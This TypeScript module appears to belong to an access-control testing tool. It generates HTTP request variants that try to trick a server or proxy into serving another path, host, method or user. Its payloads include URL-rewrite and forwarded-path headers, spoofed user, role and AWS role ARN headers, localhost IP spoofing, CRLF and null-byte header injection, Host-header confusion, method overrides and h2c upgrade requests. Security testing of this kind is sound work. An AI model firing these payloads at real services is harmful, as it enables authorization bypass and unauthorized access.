import { otherRole as other, otherTarget, request, type Trick, type TrickDoor } from "./trick.ts";

/** Headers that lead some server, framework or proxy to another path, host, method or user. */
export function headerTricks(door: TrickDoor): readonly Trick[] {
  const { host } = door;
  const whole = otherTarget(door);
  const arn = "arn:aws:iam::444455556666:role/Zebra";
  const named = (names: string, value: string): readonly string[] =>
    names.split(" ").map((name) => `${name}: ${value}`);
  const lines = [
    named("X-Original-URL X-Rewrite-URL X-Original-URI X-HTTP-Path-Override", whole),
    named("X-Forwarded-Uri X-Forwarded-Path X-Forwarded-Prefix X-Script-Name Path", whole),
    named("Content-Location Location Destination Referer Request-URI", `http://${host}${whole}`),
    named("X-Role Role X-Role-Name X-Profile X-Amz-Role User From", other),
    named("X-Remote-User Remote-User X-Forwarded-User X-User X-Host X-Forwarded-Host", other),
    named("X-Aws-Role-Arn X-Amz-Security-Role X-Role-Arn", arn),
    named("X-Forwarded-For X-Real-IP X-Client-IP True-Client-IP", "127.0.0.1"),
    ["X-Forwarded-Proto: unix", `Forwarded: for=127.0.0.1;host=${other}`, `Via: 1.1 ${other}`],
    [`Cookie: role=${other}`, `Cookie: role=deploy; role=${other}`, `Set-Cookie: role=${other}`],
    ["Connection: Host", `Connection: ${door.tokenHeader}`, "Connection: close, X-Forwarded-For"],
    ["Range: bytes=0-", "If-None-Match: *", "If-Match: *", "Accept: */*", "TE: trailers"],
    ["X-HTTP-Method-Override: PUT", "X-HTTP-Method: POST", "X-Method-Override: PUT"],
    ["Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Max-Forwards: 0"],
    [` X-Role: ${other}`, `X-Role : ${other}`, `X: a\r\n ${other}`, `X: a\rX-Role: ${other}`],
    [`X: a\nX-Role: ${other}`, `X: a\0${other}`, `: ${other}`, other],
  ].flat();
  const hosts = [
    `${host}, ${other}`,
    other,
    `${other}.${host}`,
    `${host}@${other}`,
    `${host}#${other}`,
    `${host}${whole}`,
    `${host} `,
    `HTTP://${host}`,
    "",
  ];
  const onOwn = (name: string, bytes: string): Trick => [name, [bytes]];
  return [
    ...lines.flatMap((line) => [
      onOwn(`own path, ${JSON.stringify(line)}`, request(door, door.own, [line])),
      onOwn(`other path, ${JSON.stringify(line)}`, request(door, whole, [line])),
    ]),
    ...hosts.map((name) => onOwn(`host ${JSON.stringify(name)}`, request({ ...door, host: name }, whole))),
    ...[
      "POST",
      "PUT",
      "HEAD",
      "OPTIONS",
      "PATCH",
      "DELETE",
      "TRACE",
      "PROPFIND",
      "get",
      "CONNECT",
      "GETGET",
    ].map((method) => onOwn(`method ${method}`, request(door, whole, ["Content-Length: 0"], { method }))),
    onOwn("two hosts", request(door, whole, [`Host: ${other}`])),
    onOwn("no host", request(door, whole).replace(/^Host: .*\r\n/m, "")),
    onOwn("HTTP/1.0", request(door, whole).replace("HTTP/1.1", "HTTP/1.0")),
    onOwn("HTTP/0.9", `GET ${whole}\r\n`),
    onOwn("HTTP/2", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${request(door, whole)}`),
  ];
}
